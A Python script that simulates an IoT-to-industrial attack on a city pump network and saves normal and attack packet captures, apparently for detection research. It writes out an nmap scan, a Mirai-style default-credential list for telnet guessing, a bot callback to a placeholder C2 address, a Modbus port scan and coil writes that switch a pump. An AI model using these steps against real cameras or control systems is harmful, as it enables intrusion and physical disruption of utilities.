#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The city-pump story: a camera is scanned, guessed, infected; then it finds a pump station and switches a pump.

Writes story/city-pump-attack.pcap (an ordinary hour, then the attack) and its halves story/normal.pcap,
story/attack.pcap.
"""
import sys

import things
from city import PCAPS, Site, address, build_c, day, read_pcap, write_pcap

CAMERAS = ["cam-nguyen-trai", "cam-ninh-kieu", "cam-hung-vuong"]
LEVELS = ["level-cai-rang", "level-binh-thuy"]
RTUS = ["rtu-pump-cai-khe", "rtu-pump-rach-ngong"]
SERVERS = ["ntp01", "dns01", "mqtt01", "nvr01", "scada01"]
INTERNET = ["attacker", "c2", "resolver"]
VICTIM = "cam-ninh-kieu"
GUESSES = ("root:xc3511,root:vizxv,root:admin,admin:admin,root:888888,root:xmhdipc,root:juantech,root:123456,"
           "root:54321,support:support,admin:12345")
NORMAL_SECONDS = 75


def ordinary(site):
    things.dns(site)
    things.ntp(site)
    things.broker(site)
    for c in CAMERAS:
        things.camera(site, c, telnet=c == VICTIM)
    things.c2(site)
    things.wait(1)
    site.record()
    site.phase(1)
    site.dhcp(*CAMERAS, *LEVELS, *RTUS)
    things.rtu(site, *RTUS)
    things.wait(0.5)
    site.phase(45)
    things.ask_time(site, *CAMERAS, *RTUS, "scada01")
    for s in LEVELS:
        things.level_sensor(site, s, 1.3)
    things.recorder(site, *CAMERAS, seconds=5)
    things.master(site, 160, 100000, 0, *RTUS)
    for _ in range(3):
        things.wait(NORMAL_SECONDS / 3)
        things.ask_time(site, *CAMERAS)


def attack(site):
    victim = address(VICTIM)
    mbtool = build_c(site, "mbtool")
    site.phase(2, pace=20)
    things.wait(4)
    site.run("attacker", "nmap", "-n", "-Pn", "-sS", "-T4", "--top-ports", "200", "--max-retries", "1", victim)
    things.wait(3)
    bot = site.spawn("attacker", *things.python("loader", victim, GUESSES, *things.INFECT))
    bot.wait(90)
    site.spawn(VICTIM, *things.python("c2", "bot", "198.51.100.23", 48101, "telnet.arm", 60))
    things.wait(5)
    site.run(VICTIM, "nmap", "-n", "-Pn", "-sS", "-T4", "-p", "502", "--max-retries", "1", "10.30.1.2-60")
    things.wait(3)
    site.run(VICTIM, mbtool, "10.30.1.11", 1, "rc:0:8", "rh:0:10", "ms:1500", "wc:1:1", "ms:800", "wc:2:1", "rc:0:8")
    things.wait(12)


def main():
    with Site(CAMERAS + LEVELS + RTUS + SERVERS + INTERNET) as site:
        ordinary(site)
        attack(site)
        print(site.save("story/city-pump-attack.pcap", day(0)), "packets")
    whole = list(read_pcap(PCAPS / "story/city-pump-attack.pcap"))
    outside = bytes([203, 0, 113, 66])
    first = next(at for at, frame, _ in whole if outside in (frame[26:30], frame[30:34]))
    cut = first - 1_000_000
    write_pcap(PCAPS / "story/normal.pcap", [p for p in whole if p[0] < cut])
    write_pcap(PCAPS / "story/attack.pcap", [p for p in whole if p[0] >= cut])


if __name__ == "__main__":
    sys.exit(main())
